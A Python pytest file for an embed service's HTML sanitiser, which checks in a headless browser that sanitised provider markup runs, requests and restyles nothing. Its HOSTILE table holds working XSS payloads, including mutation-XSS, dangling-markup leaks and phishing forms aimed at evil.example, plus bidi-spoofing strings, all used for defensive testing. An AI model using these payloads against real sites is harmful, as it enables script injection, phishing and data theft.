"""Our HTML in a browser: it runs, requests, moves, covers and restyles nothing, and takes no name."""

import json
import re
from dataclasses import replace
from html.parser import HTMLParser

import pytest

from embedsvc.formats import block
from embedsvc.model import Author, Embed, Finding, Image, Media, Metadata, Player, Provider
from embedsvc.safe import MediaProxy, Signer, sanitise
from tests.support.chromium import Chromium
from tests.support.corpus import corpus
from tests.support.fields import blocks, embed
from tests.support.formats.samples import ARTICLE, POST, VIDEO, known
from tests.support.sites import OPTIONS

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

# One or two samples of each attack; unsanitised, every one of them works.
HOSTILE = {
    "script": "<script>alert(1)</script>",
    "handler": '<p onmouseover="alert(1)">words</p>',
    "picture handler": '<img src="https://evil.example/x" onerror="alert(1)">',
    "scheme": '<a href="java&#10;script:alert(1)">click</a>',
    "svg": "<svg onload=alert(1)><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
    "mathml": '<math><mtext><img src onerror="alert(1)"></mtext></math>',
    "mutation": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "frame": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.example/o"></object>',
    "form": '<form action="https://evil.example/"><button>Log in</button></form>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "style sheet": '<link rel="stylesheet" href="https://evil.example/s.css">',
    "style": "<style>#cms-title { display: none }</style>",
    "cover": '<p style="position:fixed;inset:0;background:#fff">mine</p>',
    "class of the page": '<div class="overlay">mine</div>',
    "name": '<a id="cms-title" name="location">x</a>',
    "target": '<a href="https://evil.example/" target="_blank" rel="opener">x</a>',
    "ping": '<a href="https://evil.example/" ping="https://evil.example/p">x</a>',
    "unclosed": '<table><td></div></div></main></body><p id="cms-foot">mine',
    "dangling": "<img src='https://evil.example/?",
    "media": '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4" autoplay></video>',
    "provider": '<blockquote class="tweet"><p lang="en">Words</p></blockquote><script async src="https://platform.example/w.js"></script>',
}

TURNED = {
    "override": "\u202emoc.elpmaxe",
    "embedding": "\u202b\u202b\u202bname",
    "isolate left open": "name \u2067",
    "isolate closed twice": "name\u2069\u2069 \u202e",
    "isolate closed before opened": "\u2069\u202ename\u2067",
    "paragraph within": "name\u2029\u202e more\u2069",
    "right to left": "محمد 24",
}


@pytest.mark.slow
@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE.keys())
def test_the_detector_sees_each_kind(chromium: Chromium, html: str) -> None:
    """Every unsanitised sample is detected, so that finding nothing means something."""
    assert chromium.offences({"sample": html})


def test_the_detector_sees_reordered_text(chromium: Chromium) -> None:
    """An unsanitised bidi control turns the date after it."""
    assert chromium.turned("<p>\u202ename <time>January 26, 2021</time></p>", "time") == ["January 26, 2021"]


@pytest.mark.slow
def test_the_detector_names_the_culprit(chromium: Chromium) -> None:
    """Of two fragments in a page, only the offending one is named, with what it did."""
    found = chromium.offences({"words": "<p>Words.</p>", "script": HOSTILE["script"]})
    assert found.keys() == {"script"}
    assert "written: script: alert" in found["script"]


def test_sanitised_markup_does_nothing(chromium: Chromium) -> None:
    """The same samples, sanitised, do not change the page."""
    assert chromium.offences({name: sanitise(html) for name, html in HOSTILE.items()}) == {}


@pytest.mark.slow
def test_hostile_fields_do_nothing(chromium: Chromium) -> None:
    """The same samples in every field of a post, a card and a rich block do not change the page."""
    assert chromium.offences({name: blocks(html) for name, html in HOSTILE.items()}) == {}


def test_a_name_turns_nothing_but_itself(chromium: Chromium) -> None:
    """Bidi controls and right-to-left letters in names do not reorder the date and URL after them."""
    html = [
        f"{blocks(name)}<p class='next'>words, 24 (and) more: {label}.</p>" for label, name in TURNED.items()
    ]
    assert chromium.turned("".join(html), "time, .embed-url, .next, #cms-after") == []


def test_a_block_requests_nothing(chromium: Chromium) -> None:
    """Neither a post, a card nor foreign markup makes a request, nor does a video before it is played."""
    video = Embed(
        url="https://www.youtube.com/watch?v=jNQXAC9IVRw",
        finding=Finding(
            kind="video",
            method="oembed",
            provider=Provider(name="YouTube", url=None, key="youtube"),
            metadata=Metadata(title="Me at the zoo", authors=(Author(name="jawed"),)),
            player=Player(url="https://www.youtube-nocookie.com/embed/jNQXAC9IVRw"),
        ),
        fetched_at=0.0,
        expires_at=1.0,
    )
    assert chromium.requests(blocks("words") + block.render(video, OPTIONS)) == []


def test_pictures_are_loaded_only_with_images_direct(chromium: Chromium) -> None:
    """Otherwise a card links its picture by name."""
    card = embed("article", Metadata(title="Title"))
    assert chromium.requests(block.render(card, OPTIONS)) == []
    assert chromium.requests(block.render(card, replace(OPTIONS, images="direct")), least=1) == [
        "https://site.example/1.jpg"
    ]


@pytest.mark.slow
@pytest.mark.corpus
def test_no_known_payload_does_anything_sanitised(chromium: Chromium) -> None:
    """All payloads of the recorded corpus, sanitised."""
    assert chromium.offences({name: sanitise(html) for name, html in _payloads().items()}) == {}


@pytest.mark.slow
@pytest.mark.corpus
def test_no_known_payload_does_anything_in_a_field(chromium: Chromium) -> None:
    """All payloads of the recorded corpus, in every field of a post, a card and a rich block."""
    assert chromium.offences({name: blocks(html) for name, html in _payloads().items()}) == {}


@pytest.mark.corpus
def test_harmless_markup_is_harmless_and_complete(chromium: Chromium) -> None:
    """Harmless provider HTML is left with its words, languages, directions, links and dates. The corpus does
    not count the alternative text of pictures among the words.
    """
    rows = [json.loads(line) for line in corpus("security", "benign.jsonl").read_text("utf-8").splitlines()]
    assert chromium.offences({row["id"]: blocks(row["html"]) for row in rows}) == {}
    for row in rows:
        left = Content(sanitise(row["html"]))
        assert [wanted for wanted in row["must_keep"] if wanted not in left.attributes] == []
        words = Content(sanitise(re.sub(' alt="[^"]*"', "", row["html"]))).text
        assert _squeezed(row["must_keep_text"]) in _squeezed(words)


class Content(HTMLParser):
    """The attributes and the text of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.attributes: set[str] = set()
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        del tag
        self.attributes |= {f'{name}="{value}"' for name, value in attrs}

    def handle_data(self, data: str) -> None:
        self.text += data


def _payloads() -> dict[str, str]:
    lines = corpus("security", "xss.jsonl").read_text("utf-8").splitlines()
    return {row["id"]: row["html"] for row in map(json.loads, lines)}


def _squeezed(text: str) -> str:
    return re.sub("[\\s\u00ad\u200b\u2060\ufeff]+", "", text)


def test_a_block_requests_nothing_but_our_own_files(chromium: Chromium) -> None:
    """Neither a post with its pictures, films and quoted post, nor a card, nor a player."""
    own = "https://embed.example"
    media = (
        Media(type="photo", url="https://pictures.example/1.jpg", alt="A dog"),
        Media(type="photo", url="https://pictures.example/2.jpg", width=200, height=100),
        Media(type="video", url="https://films.example/1.mp4", poster="https://pictures.example/3.jpg"),
        Media(type="video", url="https://films.example/2.mp4"),
        Media(type="audio", url="https://films.example/3.mp3"),
    )
    author = Author(name="Ann", handle="ann", avatar="https://pictures.example/ann.jpg")
    shown = replace(OPTIONS, media=MediaProxy(Signer(["a-secret-of-the-tests"]), own), images="direct")
    picture = Image(url="https://pictures.example/0.jpg", width=1600, height=900)
    quoted = replace(POST.finding, media=media[:1])
    post = known(replace(POST, finding=replace(POST.finding, media=media, quoted=quoted)), authors=(author,))
    blocks = (post, known(ARTICLE, image=picture), known(VIDEO, image=picture))
    fragment = "".join(block.render(each, shown) for each in blocks)
    assert fragment.count("<img ") == 7
    asked = chromium.requests(fragment, least=5)
    assert len(asked) == 5  # two of them are shown twice
    assert all(url.startswith(f"{own}/media/") for url in asked)
